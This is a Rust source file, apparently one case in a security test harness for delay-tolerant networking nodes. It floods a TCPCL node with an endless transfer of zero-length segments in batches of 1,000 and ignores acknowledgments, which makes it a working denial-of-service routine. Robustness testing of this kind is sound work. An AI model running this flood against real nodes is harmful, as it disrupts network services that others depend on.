//! A transfer of empty segments.

use super::{Case, Outcome, Target};
use crate::attack::wire::bundle::Bundle;
use crate::attack::wire::stranger;
use crate::attack::wire::tcpcl::{START, Session, segment_head};
use anyhow::Result;
use std::io::Write;

pub const CASE: Case = Case {
    name: "tcpcl-empty-segments",
    what: "A transfer of zero-length XFER_SEGMENTs that never ends; the acknowledgments are not read.",
    run,
};

fn run(target: &Target) -> Result<Outcome> {
    let mut session = Session::open(stranger(1), target.tcpcl, "ipn:66.0")?;
    let head = Bundle::new("ipn:1.77", 1).head(1 << 20);
    let mut first = segment_head(START, 0, None, head.len() as u64);
    first.extend(&head);
    session.push(&first, target.end());
    let empty = segment_head(0, 0, None, 0);
    // 1,000 segments a write: the attack is bounded by the node, not by system calls.
    let many = empty.repeat(1000);
    let mut sent = 0u64;
    let mut at = 0;
    let mut stream = session.stream();
    while !target.over() {
        match stream.write(&many[at..]) {
            Ok(n) => {
                sent += n as u64;
                // A message that was cut continues where it stopped.
                at = (at + n) % many.len();
            }
            Err(why) if why.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => break,
        }
    }
    target.hold();
    Ok(Outcome::of(format!("{} segments", sent / empty.len() as u64)))
}
